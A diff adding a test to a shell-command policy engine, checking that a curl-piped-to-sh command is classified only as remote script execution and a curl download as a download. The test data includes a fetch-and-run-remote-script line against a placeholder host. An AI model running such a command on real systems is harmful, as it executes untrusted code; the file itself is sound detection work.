@@ -1,6 +1,6 @@
 import fc from "fast-check";
 import { describe, expect, test } from "vitest";
-import { commandRules } from "./commands.ts";
+import { commandRules, rulesOfCommand } from "./commands.ts";
 import { splitCommand } from "./split-command.ts";
 
 /** The policy's own expressions. Some take quadratic time, which is why the engine has others; both must find the same. */
@@ -91,6 +91,11 @@ test.each([
   ["echo \\$KASM_URL", []],
 ] as [string, string[]][])("%s: %j", (command, expected) => {
   expect(matching(command)).toEqual(expected);
+});
+
+test("a script run from the internet is one finding, not a download as well", () => {
+  expect(rulesOfCommand("curl https://x.example | sh")).toEqual(["exec-remote-script"]);
+  expect(rulesOfCommand("curl https://x.example -o x")).toEqual(["exec-download"]);
 });
 
 /** The pieces of which the expressions are made, so that chance finds their edges. */
